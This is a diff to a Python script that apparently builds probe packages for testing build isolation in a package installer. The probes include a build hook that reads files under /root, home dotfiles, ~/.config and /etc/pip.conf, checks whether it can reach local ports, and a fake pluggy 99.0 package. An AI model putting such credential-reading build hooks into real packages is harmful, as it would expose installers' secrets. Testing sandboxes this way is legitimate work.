@@ -8,6 +8,7 @@ changed; `liar` builds a wheel of another project, `link` and `pipe` one that is
 """
 
 import io
+import os
 import sys
 import tarfile
 import zipfile
@@ -41,8 +42,7 @@ def look():
                     "/run/*", "/tmp/*", "/etc/pip.conf", "/etc/uv/*", "/root/*", "/root/.*", os.path.expanduser("~/*"),
                     os.path.expanduser("~/.*"), os.path.expanduser("~/.config/*/*"), VICTIM + "/*", VICTIM + "/home/*"):
         for path in glob.glob(pattern):
-            kind = os.path.realpath(path)
-            if os.path.isfile(path) or kind.startswith(("/memfd:", "/dev/shm")) or "/proc/" in path and "/fd/" not in path:
+            if os.path.isfile(path):
                 seen.append(path + " " + read(path))
     for port, what in ((PORT, "REACHED THE INDEX"), (3141, "REACHED THE DOOR")):
         try:
@@ -67,8 +67,10 @@ def places():
     found = []
     for line in read("/proc/self/mountinfo").splitlines():
         fields = line.split(" ")
-        if "rw" in fields[5].split(",") and os.path.isdir(fields[4]) and not fields[4].startswith(("/proc", "/sys", "/dev")):
-            found.append(fields[4])
+        place = fields[4]
+        own = place == "/" or place.startswith(("/proc", "/sys", "/dev"))
+        if "rw" in fields[5].split(",") and os.path.isdir(place) and not own:
+            found.append(place)
     return found
 
 
@@ -215,3 +217,5 @@ setuptools("later", "")
 own_backend("liar", "pluggy", "99.0")
 own_backend("link", "demo_link")
 own_backend("pipe", "demo_pipe")
+for one in os.listdir(FOLDER):
+    os.utime(os.path.join(FOLDER, one), (1735689600, 1735689600))
